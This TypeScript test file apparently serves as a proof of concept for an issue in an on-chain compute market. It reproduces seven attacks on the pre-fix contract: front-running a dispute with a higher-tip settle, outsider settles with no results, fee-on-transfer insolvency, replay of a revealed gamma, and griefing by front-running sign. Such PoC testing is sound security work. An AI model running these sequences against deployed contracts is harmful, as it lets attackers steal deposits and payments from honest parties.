// PoC (issue 14): each threat reproduced against the market as it is before the fix. Every test
// here asserts that the attack SUCCEEDS; the fix commit turns each into a test that it fails.
import { type Address, type Bytes32, gamma, seal } from "@surplus/core";
import { type Contract, hexlify, keccak256, MaxUint256, randomBytes } from "ethers";
import { beforeEach, describe, expect, it } from "vitest";
import { deployMarket, State, signAccept, signResult } from "../src/index.ts";
import {
  as,
  balances,
  createNetwork,
  type Deal,
  deal,
  delta,
  deployFunded,
  type Market,
  makeAllocation,
  type Network,
  openRunning,
  results,
  signatures,
  stateOf,
  toEnd,
} from "./support/fixture.ts";

let net: Network;
let m: Market;
let fixture: () => Promise<Market>;

beforeEach(async () => {
  if (!net) {
    net = await createNetwork();
    fixture = async function funded() {
      return deployFunded(net);
    };
  }
  m = await net.networkHelpers.loadFixture(fixture);
});

const GAS = 2_000_000n;

/** Sends `name(args)` from `signer` without waiting, with a given priority tip (automine off). */
async function send(signer: Parameters<typeof as>[1], name: string, args: unknown[], tipGwei: bigint) {
  const tx = await as(m, signer)
    .getFunction(name)
    .send(...args, {
      gasLimit: GAS,
      maxPriorityFeePerGas: tipGwei * 10n ** 9n,
      maxFeePerGas: 1000n * 10n ** 9n,
    });
  return tx.hash as string;
}
async function mineAndStatus(hashes: string[]): Promise<number[]> {
  await net.provider.request({ method: "evm_mine", params: [] });
  const out: number[] = [];
  for (const h of hashes) out.push(Number((await net.ethers.provider.getTransactionReceipt(h))!.status));
  return out;
}
async function automine(on: boolean) {
  await net.provider.request({ method: "evm_setAutomine", params: [on] });
}

describe("PoC on the old market (issue 14): each attack succeeds", () => {
  it("threat 1: a lazy Supplier front-runs the Customer's dispute with its own settle and is paid P + D", async () => {
    const d = deal(m, await makeAllocation(m, { replicas: 1 }));
    await openRunning(m, d);
    await toEnd(m, d);
    const before = await balances(m);
    // The Customer published its checklist; the lazy Supplier computes γ late and seals it.
    const lateResult = await results(m, d);
    await automine(false);
    try {
      const dispute = await send(m.parties.customer, "dispute", [d.terms, 1], 1n);
      const settle = await send(
        m.parties.suppliers[0]!,
        "settle",
        [d.terms, d.outputs.gamma, lateResult],
        50n,
      );
      const [disputeOk, settleOk] = await mineAndStatus([dispute, settle]);
      expect(settleOk).toBe(1);
      expect(disputeOk).toBe(0);
    } finally {
      await automine(true);
    }
    expect(await stateOf(m, d.id)).toBe(State.Closed);
    expect(delta(before, await balances(m)).s0).toBe(d.amounts.payment + d.amounts.deposit);
  });

  it("threats 1 + 2: an outsider settles with no results, the Mediator stays silent, the honest Supplier loses P + D", async () => {
    const d = deal(m, await makeAllocation(m, { replicas: 1 }));
    await openRunning(m, d);
    await toEnd(m, d);
    const before = await balances(m);
    const none = [{ seal: `0x${"00".repeat(32)}`, signature: "0x" }];
    await (await as(m, m.parties.outsider).getFunction("settle")(d.terms, d.outputs.gamma, none)).wait();
    expect(await stateOf(m, d.id)).toBe(State.MediationRequested);
    await net.networkHelpers.time.increase(Number(m.parameters.mediationWindow) + 1);
    await (await as(m, m.parties.outsider).getFunction("expire")(d.terms)).wait();
    const moved = delta(before, await balances(m));
    expect(moved.s0 ?? 0n).toBe(0n); // neither P nor D back
  });

  it("threat 3: the treasury may be the allocation's Mediator", async () => {
    const deployed = await deployMarket(m.parties.treasury, {
      token: m.tokenAddress,
      treasury: m.parties.mediator.address,
    });
    const mm = { ...m, ...deployed, market: deployed.market } as Market;
    for (const p of [m.parties.allocator, m.parties.customer, m.parties.mediator, m.parties.suppliers[0]!]) {
      await (await (m.token.connect(p) as Contract).getFunction("mint")(p.address, 10n ** 22n)).wait();
      await (
        await (m.token.connect(p) as Contract).getFunction("approve")(deployed.marketAddress, MaxUint256)
      ).wait();
      await (await (deployed.market.connect(p) as Contract).getFunction("deposit")(10n ** 22n)).wait();
    }
    const d = deal(mm, await makeAllocation(mm, { replicas: 1 }));
    await (
      await (deployed.market.connect(m.parties.allocator) as Contract).getFunction("open")(
        d.terms,
        await signatures(mm, d),
      )
    ).wait();
    const [state] = await deployed.market.getFunction("recordOf")(d.id);
    expect(Number(state)).toBe(State.Running);
  });

  it("threat 4: with a 1 % fee-on-transfer token the market owes more than it holds", async () => {
    const fee = (await net.ethers.deployContract("FeeOnTransferToken")) as unknown as Contract;
    const deployed = await deployMarket(m.parties.treasury, { token: await fee.getAddress() });
    const [a, b] = [m.parties.customer, m.parties.outsider];
    for (const p of [a, b]) {
      await (await (fee.connect(p) as Contract).getFunction("mint")(p.address, 1000n)).wait();
      await (await (fee.connect(p) as Contract).getFunction("approve")(deployed.marketAddress, 1000n)).wait();
      await (await (deployed.market.connect(p) as Contract).getFunction("deposit")(1000n)).wait();
    }
    const held: bigint = await fee.getFunction("balanceOf")(deployed.marketAddress);
    const owed: bigint =
      (await deployed.market.getFunction("balanceOf")(a.address)) +
      (await deployed.market.getFunction("balanceOf")(b.address));
    expect(owed).toBeGreaterThan(held);
  });

  it("threat 5: a zero price and an open 2 s before the end with old Accepts are accepted", async () => {
    const zero = deal(m, { ...(await makeAllocation(m)), pricePerMi: 0n });
    await openRunning(m, zero);
    expect(await stateOf(m, zero.id)).toBe(State.Running);
    const late = deal(m, await makeAllocation(m, { duration: 200 }));
    const sigs = await signatures(m, late); // signed now …
    await net.networkHelpers.time.increaseTo(late.a.end - 2); // … used near the end
    await (await as(m, m.parties.allocator).getFunction("open")(late.terms, sigs)).wait();
    expect(await stateOf(m, late.id)).toBe(State.Running);
  });

  it("threat 6: a γ revealed in one allocation seals a reused checklist in another", async () => {
    const salt = hexlify(randomBytes(32)) as Bytes32;
    const items = [{ seq: 3n, output: new TextEncoder().encode("people=1") }];
    const g = gamma(`0x${"00".repeat(32)}` as Bytes32, salt, items); // the old γ had no id
    const first = deal(m, await makeAllocation(m));
    const second = deal(m, await makeAllocation(m));
    const withOutputs = (d: Deal): Deal => ({
      ...d,
      outputs: { ...d.outputs, salt, items, gamma: g, commitment: d.outputs.commitment },
    });
    void withOutputs;
    // The lazy Supplier of the second allocation reuses the γ revealed by the first one.
    const s = m.parties.suppliers[0]!.address as Address;
    // Both allocations commit to the same Γ = keccak256(γ): the contract cannot tell them apart.
    const sigs = async (d: Deal) => ({
      ...(await signatures(m, d)),
      commitment: keccak256(g),
      customer: await signAccept(m.parties.customer, m.domain, d.id, keccak256(g) as Bytes32),
    });
    await (await as(m, m.parties.allocator).getFunction("open")(first.terms, await sigs(first))).wait();
    await (await as(m, m.parties.allocator).getFunction("open")(second.terms, await sigs(second))).wait();
    await toEnd(m, second);
    // The Customer settles the first allocation, revealing γ …
    await (
      await as(m, m.parties.customer).getFunction("settle")(first.terms, g, await results(m, first, () => g))
    ).wait();
    // … and the lazy Supplier of the second seals that γ without having processed anything.
    const lazy = await signResult(m.parties.suppliers[0]!, m.domain, second.id, g);
    expect(lazy.seal).toBe(seal(s, second.id, g));
    const rc = await (await as(m, m.parties.customer).getFunction("settle")(second.terms, g, [lazy])).wait();
    const settled = rc.logs
      .map((l: { topics: string[]; data: string }) => m.market.interface.parseLog(l))
      .find((e: { name: string } | null) => e?.name === "AllocationSettled");
    expect(Number(settled!.args.matched)).toBe(1);
  });

  it("threat 7: a front-run `sign` makes the batch revert; a withdrawal makes `open` revert", async () => {
    const d = deal(m, await makeAllocation(m, { replicas: 2 }));
    const all = await signatures(m, d);
    await (
      await as(m, m.parties.allocator).getFunction("open")(d.terms, {
        ...all,
        mediator: "0x",
        suppliers: ["0x", "0x"],
      })
    ).wait();
    await automine(false);
    try {
      const batch = await send(m.parties.allocator, "sign", [d.terms, { ...all, customer: "0x" }], 1n);
      const grief = await send(
        m.parties.outsider,
        "sign",
        [d.terms, { ...all, customer: "0x", suppliers: ["0x"] }],
        50n,
      );
      const [batchOk, griefOk] = await mineAndStatus([batch, grief]);
      expect(griefOk).toBe(1);
      expect(batchOk).toBe(0);
    } finally {
      await automine(true);
    }
    const e = deal(m, await makeAllocation(m, { replicas: 1 }));
    const sigs = await signatures(m, e);
    const s0 = m.parties.suppliers[0]!;
    const free: bigint = await m.market.getFunction("balanceOf")(s0.address);
    await (await as(m, s0).getFunction("withdraw")(free)).wait();
    await expect(as(m, m.parties.allocator).getFunction("open")(e.terms, sigs)).rejects.toThrow();
  });
});
